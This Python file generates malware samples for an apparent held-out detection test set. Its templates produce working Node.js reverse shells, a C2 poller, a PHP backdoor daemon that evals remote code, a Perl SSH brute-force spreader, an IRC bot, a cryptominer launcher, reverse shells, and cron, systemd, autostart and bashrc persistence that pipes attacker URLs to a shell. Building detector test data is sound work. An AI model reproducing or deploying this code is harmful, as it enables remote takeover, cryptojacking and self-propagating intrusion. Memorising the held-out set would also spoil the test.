"""Bots and persistence of the third held-out set. A template returns a list
of (rel, text, lang). Written blind (README.md)."""

import base64

from common3 import hexname, host, rword

PROCN = ("kthreaddk", "kworker/0:2", "[ksoftirqd/1]", "dbus-daemon2", "sshd-helper", "php-fpm7", ".x", "systemd-journa1")


def _hid(r):
    return r.choice(("~/.cache/.%s" % hexname(r, 4), "/tmp/.X11-unix/.%s" % rword(r, 3), "/var/tmp/.%s" % hexname(r, 6),
                     "$HOME/.local/share/.%s" % rword(r, 5), "/dev/shm/.%s" % hexname(r, 3)))


def node_revshell(r, S):
    h, p = host(r), r.choice((4444, 8080, 443, 9001))
    js = """const net = require('net');
const { spawn } = require('child_process');
function connect() {
  const c = new net.Socket();
  c.connect(%d, '%s', () => {
    const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
    c.pipe(sh.stdin);
    sh.stdout.pipe(c);
    sh.stderr.pipe(c);
  });
  c.on('error', () => setTimeout(connect, %d));
  c.on('close', () => setTimeout(connect, %d));
}
connect();
""" % (p, h, r.randint(5, 60) * 1000, r.randint(5, 60) * 1000)
    return [(r.choice(("node_modules/.cache/%s/index.js" % rword(r, 5), "app/server-%s.js" % hexname(r, 4), ".npm/_logs/%s.js" % hexname(r, 6))), js, "js")]


def node_c2_poll(r, S):
    h = host(r)
    js = """'use strict';
const https = require('https');
const { exec } = require('child_process');
const os = require('os');
const ID = os.hostname() + '-' + process.pid;
function poll() {
  https.get({ host: '%s', path: '/api/v1/t?i=' + encodeURIComponent(ID), rejectUnauthorized: false }, (res) => {
    let b = '';
    res.on('data', (d) => (b += d));
    res.on('end', () => {
      let t;
      try { t = JSON.parse(b); } catch (e) { return; }
      if (!t || !t.cmd) return;
      exec(Buffer.from(t.cmd, 'base64').toString(), { timeout: 60000 }, (err, out, errOut) => {
        const req = https.request({ host: '%s', path: '/api/v1/r', method: 'POST', rejectUnauthorized: false });
        req.end(JSON.stringify({ id: ID, tid: t.id, out: out + errOut }));
      });
    });
  }).on('error', () => {});
}
setInterval(poll, %d);
""" % (h, h, r.randint(10, 120) * 1000)
    return [(r.choice(("wp-content/uploads/.node/%s.js" % rword(r, 4), "public/js/vendor/sync.js", ".config/%s/main.js" % rword(r, 5))), js, "js")]


def php_daemon(r, S):
    h = host(r)
    php = """<?php
if (php_sapi_name() !== 'cli') { exit; }
$pid = pcntl_fork();
if ($pid > 0) { exit(0); }
posix_setsid();
if (pcntl_fork() > 0) { exit(0); }
@cli_set_process_title('%s');
fclose(STDIN); fclose(STDOUT); fclose(STDERR);
umask(0);
chdir('/');
while (true) {
    $t = @file_get_contents('http://%s/task.php?u=' . get_current_user() . '&h=' . gethostname());
    if ($t) {
        $j = json_decode($t, true);
        if (!empty($j['php'])) { @eval(base64_decode($j['php'])); }
        if (!empty($j['sh'])) { @shell_exec($j['sh']); }
    }
    sleep(%d);
}
""" % (r.choice(PROCN), h, r.randint(30, 600))
    return [(r.choice(("wp-content/uploads/%s.php" % hexname(r, 6), ".cache/%s.php" % rword(r, 4), "tmp/sess_%s" % hexname(r, 26))), php, "php")]


def php_cli_stdin(r, S):
    php = """<?php
// usage: php %s < job
$in = $argc > 1 ? $argv[1] : stream_get_contents(STDIN);
$code = base64_decode(trim($in));
if ($code !== false) { eval($code); }
""" % r.choice(("run.php", "q.php", "worker.php"))
    return [(r.choice(("bin/%s.php" % rword(r, 4), ".local/%s.php" % hexname(r, 5))), php, "php")]


def perl_ssh_spread(r, S):
    pl = """#!/usr/bin/perl
use strict;
use warnings;
use Net::SSH2;
my @users = qw(root admin ubuntu test oracle %s);
my @pass  = qw(123456 password admin root toor 1qaz2wsx %s);
my $payload = 'cd /tmp; (curl -fsSL http://%s/i.sh || wget -qO- http://%s/i.sh) | sh';
open(my $fh, '<', $ARGV[0] || 'targets.txt') or die;
while (my $ip = <$fh>) {
    chomp $ip;
    USER: for my $u (@users) {
        for my $p (@pass) {
            my $ssh = Net::SSH2->new(timeout => 5000);
            next unless $ssh->connect($ip, 22);
            if ($ssh->auth_password($u, $p)) {
                open(my $o, '>>', '.found'); print $o "$ip $u $p\\n"; close $o;
                my $ch = $ssh->channel();
                $ch->exec($payload);
                $ssh->disconnect;
                last USER;
            }
            $ssh->disconnect;
        }
    }
}
""" % (rword(r, 5), rword(r, 8), host(r), host(r))
    return [(r.choice((".cache/%s/s.pl" % rword(r, 3), "tmp/.%s/scan" % hexname(r, 3), "cgi-bin/%s.pl" % rword(r, 4))), pl, "perl")]


def py_irc(r, S):
    py = """import socket
import subprocess
import random
import time

SRV = ('%s', %d)
CH = '#%s'
nick = 'u' + str(random.randint(1000, 99999))
s = socket.socket()
s.connect(SRV)
s.send(('NICK %%s\\r\\nUSER %%s 0 * :%%s\\r\\n' %% (nick, nick, nick)).encode())
buf = b''
while True:
    buf += s.recv(2048)
    *lines, buf = buf.split(b'\\r\\n')
    for l in lines:
        t = l.decode(errors='ignore')
        if t.startswith('PING'):
            s.send(('PONG' + t[4:] + '\\r\\n').encode())
        elif ' 001 ' in t:
            s.send(('JOIN %%s\\r\\n' %% CH).encode())
        elif 'PRIVMSG ' + CH + ' :!x ' in t:
            cmd = t.split(':!x ', 1)[1]
            out = subprocess.run(cmd, shell=True, capture_output=True, timeout=60).stdout
            for o in out.decode(errors='ignore').splitlines()[:20]:
                s.send(('PRIVMSG %%s :%%s\\r\\n' %% (CH, o)).encode())
                time.sleep(0.5)
""" % (host(r), r.choice((6667, 6697, 7000)), rword(r, 5))
    return [(r.choice((".local/lib/%s.py" % rword(r, 4), "tmp/.%s.py" % hexname(r, 5), "cgi-bin/stat.py")), py, "python")]


def sh_miner(r, S):
    name = r.choice(PROCN[:3] + ("kswapd0", "xmrig-lite"))
    dd = _hid(r)
    sh = """#!/bin/bash
D=%s
mkdir -p "$D" && cd "$D" || exit
pkill -f xmrig 2>/dev/null; pkill -f kinsing 2>/dev/null
if [ ! -x ./%s ]; then
  curl -fsSL http://%s/x86_64 -o ./%s || wget -q http://%s/x86_64 -O ./%s
  chmod +x ./%s
fi
nohup ./%s -o pool.example.net:%d -u %s -p x --donate-level 1 --cpu-max-threads-hint=%d >/dev/null 2>&1 &
echo "ok"
""" % (dd, name.strip("[]").replace("/", "_"), host(r), name.strip("[]").replace("/", "_"), host(r), name.strip("[]").replace("/", "_"),
       name.strip("[]").replace("/", "_"), name.strip("[]").replace("/", "_"), r.choice((3333, 4444, 14444, 443)), "4" + rword(r, 90, "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz123456789"),
       r.choice((50, 75, 90)))
    return [(r.choice((".cache/%s.sh" % rword(r, 3), "tmp/%s" % rword(r, 4), "wp-content/uploads/up.sh")), sh, "sh")]


def sh_autostart_at(r, S):
    h = host(r)
    k = r.randint(0, 1)
    if k == 0:
        sh = """#!/bin/sh
mkdir -p "$HOME/.config/autostart"
cat > "$HOME/.config/autostart/%s.desktop" <<EOF
[Desktop Entry]
Type=Application
Name=%s
Exec=sh -c "curl -s http://%s/a | sh"
Hidden=true
X-GNOME-Autostart-enabled=true
EOF
""" % (rword(r, 5), r.choice(("Update Notifier", "Tracker", "dbus")), h)
    else:
        sh = """#!/bin/sh
echo "wget -q -O - http://%s/s | sh" | at now + %d minutes 2>/dev/null
echo "sh -c 'bash -i >& /dev/tcp/%s/%d 0>&1'" | at now + 1 hour 2>/dev/null
""" % (h, r.randint(1, 30), h, r.choice((443, 4444, 8081)))
    return [(r.choice(("tmp/.%s" % rword(r, 4), ".local/bin/%s" % rword(r, 5))), sh, "sh")]


def crontab_forms(r, S):
    h = host(r)
    b64 = base64.b64encode(("curl -fsSL http://%s/c.sh | sh" % h).encode()).decode()
    lines = r.sample([
        "@reboot (wget -qO- http://%s/r || curl -s http://%s/r) | bash >/dev/null 2>&1" % (h, h),
        "*/%d * * * * echo %s | base64 -d | bash" % (r.randint(2, 30), b64),
        "* * * * * busybox wget -q http://%s/b -O /tmp/.b && sh /tmp/.b" % h,
        "*/10 * * * * python3 -c \"import urllib.request as u;exec(u.urlopen('http://%s/p').read())\"" % h,
        "0 * * * * /usr/bin/php %s/.%s.php >/dev/null 2>&1" % ("$HOME/public_html/wp-content/uploads", hexname(r, 6)),
        "*/5 * * * * pgrep -f %s || nohup %s/%s >/dev/null 2>&1 &" % (r.choice(PROCN[:2]), "/tmp/.x", r.choice(PROCN[:2])),
    ], r.randint(1, 3))
    txt = "MAILTO=\"\"\n" + "\n".join(lines) + "\n"
    return [(r.choice(("var/spool/cron/crontabs/%s" % rword(r, 6, "abcdefghij"), ".cron.tmp", "tmp/crontab.%s" % hexname(r, 4))), txt, "crontab")]


def sh_curl_chain(r, S):
    h = host(r)
    sh = """#!/bin/sh
U=http://%s/%s
for d in /dev/shm /var/tmp /tmp $HOME; do [ -w "$d" ] && cd "$d" && break; done
if command -v curl >/dev/null; then curl -fsSL "$U/b" -o .s
elif command -v wget >/dev/null; then wget -q "$U/b" -O .s
elif command -v python3 >/dev/null; then python3 -c "import urllib.request,sys;open('.s','wb').write(urllib.request.urlopen(sys.argv[1]).read())" "$U/b"
else exec 3<>/dev/tcp/%s/80; printf 'GET /b HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 > .s
fi
chmod 755 .s && ./.s; rm -f .s
(crontab -l 2>/dev/null; echo "*/15 * * * * curl -fsSL $U/i.sh | sh") | crontab -
history -c
""" % (h, hexname(r, 4), h)
    return [(r.choice(("i.sh", "tmp/.i", "wp-content/uploads/%s.sh" % hexname(r, 5))), sh, "sh")]


def sh_pty_upgrade(r, S):
    h, p = host(r), r.choice((443, 4444, 1234, 8888))
    k = r.randint(0, 2)
    if k == 0:
        sh = "#!/bin/bash\nbash -i >& /dev/tcp/%s/%d 0>&1\n" % (h, p)
    elif k == 1:
        sh = ("#!/bin/sh\npython3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"%s\",%d));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'\n"
              % (h, p))
    else:
        sh = "#!/bin/sh\nrm -f /tmp/.f; mkfifo /tmp/.f; cat /tmp/.f | /bin/sh -i 2>&1 | nc %s %d > /tmp/.f\n" % (h, p)
    return [(r.choice(("tmp/.%s" % rword(r, 3), ".cache/%s.sh" % rword(r, 4))), sh, "sh")]


def sh_bashrc(r, S):
    dd = _hid(r)
    sh = """#!/bin/sh
for f in "$HOME/.bashrc" "$HOME/.profile"; do
  grep -q '%s' "$f" 2>/dev/null || echo '(pgrep -f %s >/dev/null || nohup %s/%s >/dev/null 2>&1 &) 2>/dev/null' >> "$f"
done
""" % (dd.split("/")[-1], r.choice(PROCN[:2]), dd, r.choice(PROCN[:2]))
    return [(r.choice(("tmp/.p", ".local/%s" % rword(r, 4))), sh, "sh")]


def sh_systemd_user(r, S):
    n = r.choice(("dbus-session", "pulse-helper", "tracker-extract2", "gvfs-meta"))
    sh = """#!/bin/bash
mkdir -p ~/.config/systemd/user
cat > ~/.config/systemd/user/%s.service <<'EOF'
[Unit]
Description=%s

[Service]
ExecStart=/bin/bash -c 'while :; do curl -fsS http://%s/t | bash; sleep %d; done'
Restart=always

[Install]
WantedBy=default.target
EOF
systemctl --user daemon-reload
systemctl --user enable --now %s.service
loginctl enable-linger "$(id -un)" 2>/dev/null
""" % (n, n, host(r), r.randint(60, 900), n)
    return [(r.choice(("tmp/.u.sh", ".cache/u")), sh, "sh")]


TEMPLATES = [
    ("node_revshell", node_revshell, 5), ("node_c2_poll", node_c2_poll, 4), ("php_daemon", php_daemon, 5),
    ("php_cli_stdin", php_cli_stdin, 2), ("perl_ssh_spread", perl_ssh_spread, 3), ("py_irc_bot", py_irc, 4),
    ("sh_miner_launcher", sh_miner, 5), ("autostart_at", sh_autostart_at, 3), ("crontab_forms", crontab_forms, 6),
    ("curl_fallback_chain", sh_curl_chain, 3), ("pty_reverse", sh_pty_upgrade, 3), ("bashrc_persist", sh_bashrc, 1),
    ("systemd_user_unit", sh_systemd_user, 1),
]
